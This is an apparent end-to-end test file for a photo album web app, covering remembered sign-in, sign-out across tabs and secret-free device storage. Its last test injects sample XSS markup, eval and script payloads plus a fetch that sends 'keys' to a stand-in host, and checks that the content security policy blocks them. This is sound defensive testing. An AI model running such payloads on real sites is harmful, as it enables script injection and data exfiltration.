import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium, type BrowserContext, type Page } from 'playwright';
import { afterAll, beforeAll, beforeEach, expect, onTestFinished, test } from 'vitest';
import { chromiumArgs, findChromium } from '../../../scripts/chromium.mjs';
import { signIn, waitForPictures } from './albumSteps.ts';
import { collectSecrets } from './collectSecrets.ts';
import { takeCalls } from './countCalls.ts';
import { seededPerson, startPhotoAlbum, type PhotoAlbum } from './startPhotoAlbum.ts';
import { readDeviceStorage, watchPage } from './watchPage.ts';

let album: PhotoAlbum;
/** Where the browser keeps what it keeps. */
let profile: string;

beforeAll(async () => {
  album = await startPhotoAlbum({ guestsWelcome: false });
});

beforeEach(async () => {
  profile = await mkdtemp(join(tmpdir(), 'photo-album-profile-'));
  takeCalls(album.aws);
});

afterAll(() => album.stop());

const calls = (): ReturnType<typeof takeCalls> => takeCalls(album.aws);
const overview = { 'S3.ListObjectsV2': 5, 'S3.GetObject': 9 };
const signInCalls = { InitiateAuth: 1, RespondToAuthChallenge: 1, GetId: 1, GetCredentialsForIdentity: 1 };

/** Starts the person's browser, with whatever it kept from the last time. */
async function startBrowser(): Promise<BrowserContext> {
  const executablePath = findChromium();
  const browser = await chromium.launchPersistentContext(profile, {
    args: chromiumArgs,
    viewport: { width: 1280, height: 800 },
    ...(executablePath === undefined ? {} : { executablePath }),
  });
  browser.setDefaultTimeout(15_000);
  onTestFinished(async () => {
    await browser.close();
    await rm(profile, { recursive: true, force: true });
  });
  return browser;
}

async function open(browser: BrowserContext): Promise<Page> {
  const page = await browser.newPage();
  await page.goto(album.url);
  return page;
}

async function signInRemembered(page: Page): Promise<void> {
  await page.getByLabel('Keep me signed in on this device').check();
  await signIn(page, seededPerson);
  await waitForPictures(page, 9);
}

async function seeAlbums(page: Page): Promise<void> {
  await page.getByRole('heading', { name: 'Your albums' }).waitFor();
  await waitForPictures(page, 9);
}

test('who asks for it stays signed in over reloads, tabs and restarts, without one call for tokens or credentials', async () => {
  const browser = await startBrowser();
  const page = await open(browser);
  const watch = watchPage(page);
  const secrets = collectSecrets(page);
  await signInRemembered(page);
  expect(calls()).toEqual({ ...signInCalls, ...overview });

  await page.reload();
  await seeAlbums(page);
  // The pictures come from the browser's cache or from S3: their addresses are signed anew.
  expect(withoutPictures(calls())).toEqual({ 'S3.ListObjectsV2': 5 });

  const second = await open(browser);
  await seeAlbums(second);
  expect(withoutPictures(calls())).toEqual({ 'S3.ListObjectsV2': 5 });

  // Nothing that the browser keeps shows a secret.
  const kept = await readDeviceStorage(page);
  expect(kept).toContain('valetkey');
  expect(secrets.all.size).toBeGreaterThan(3);
  for (const secret of [...secrets.all, seededPerson.password]) expect(kept.includes(secret)).toBe(false);
  expect(watch.problems).toEqual([]);

  await browser.close();
  const restarted = await startBrowser();
  await seeAlbums(await open(restarted));
  expect(withoutPictures(calls())).toEqual({ 'S3.ListObjectsV2': 5 });
});

test('who does not ask for it stays signed in in this tab, with one call after a reload, and not over a restart', async () => {
  const browser = await startBrowser();
  const page = await open(browser);
  await signIn(page, seededPerson);
  await waitForPictures(page, 9);
  expect(calls()).toEqual({ ...signInCalls, ...overview });

  await page.reload();
  await seeAlbums(page);
  expect(withoutPictures(calls())).toEqual({ GetCredentialsForIdentity: 1, 'S3.ListObjectsV2': 5 });

  const second = await open(browser);
  await second.getByRole('heading', { name: 'Sign in' }).waitFor();

  await browser.close();
  const restarted = await startBrowser();
  await (await open(restarted)).getByRole('heading', { name: 'Sign in' }).waitFor();
  expect(calls()).toEqual({});
});

test('a sign-out in one tab reaches all tabs, and leaves nothing of the person on the device', async () => {
  const browser = await startBrowser();
  const first = await open(browser);
  await signInRemembered(first);
  const second = await open(browser);
  await seeAlbums(second);
  calls();

  await second.getByRole('button', { name: /^Account of/ }).click();
  await second.getByRole('button', { name: 'Sign out' }).click();
  await second.getByRole('heading', { name: 'Sign in' }).waitFor();
  await first.getByRole('heading', { name: 'Sign in' }).waitFor();
  await expect.poll(calls).toEqual({ RevokeToken: 1 });

  await first.reload();
  await first.getByRole('heading', { name: 'Sign in' }).waitFor();
  expect(calls()).toEqual({});
});

test('the built album runs under its content security policy and Trusted Types, which refuse what is not its own', async () => {
  const browser = await startBrowser();
  const page = await open(browser);
  const refused = await page.evaluate(async () => {
    // What developer tools evaluate may do more than a page: go on in a task of the page's own.
    await new Promise((resolve) => void setTimeout(resolve, 0));
    const refusedToSend = new Promise<string>((resolve) => {
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective: directive, blockedURI }) => {
        if (directive === 'connect-src') resolve(blockedURI);
      });
    });
    const attempts = {
      markup: () => (document.body.innerHTML = '<img src=x onerror="window.pwned = true">'),
      evaluation: () => (Reflect.construct(Function, ['window.pwned = true']) as () => void)(),
      script: () => {
        const script = document.createElement('script');
        script.text = 'window.pwned = true';
        document.head.append(script);
      },
      sending: () => fetch('https://example.org/?keys'),
    };
    const outcomes: Record<string, string> = {};
    for (const [name, attempt] of Object.entries(attempts)) {
      try {
        await attempt();
        outcomes[name] = 'done';
      } catch (error) {
        outcomes[name] = (error as Error).name;
      }
    }
    return { outcomes, pwned: 'pwned' in window, notSentTo: await refusedToSend };
  });
  expect(refused).toEqual({
    outcomes: { markup: 'TypeError', evaluation: 'EvalError', script: 'TypeError', sending: 'TypeError' },
    pwned: false,
    notSentTo: expect.stringContaining('https://example.org'),
  });
});

function withoutPictures({ 'S3.GetObject': _pictures, ...others }: Readonly<Record<string, number>>): Readonly<Record<string, number>> {
  return others;
}
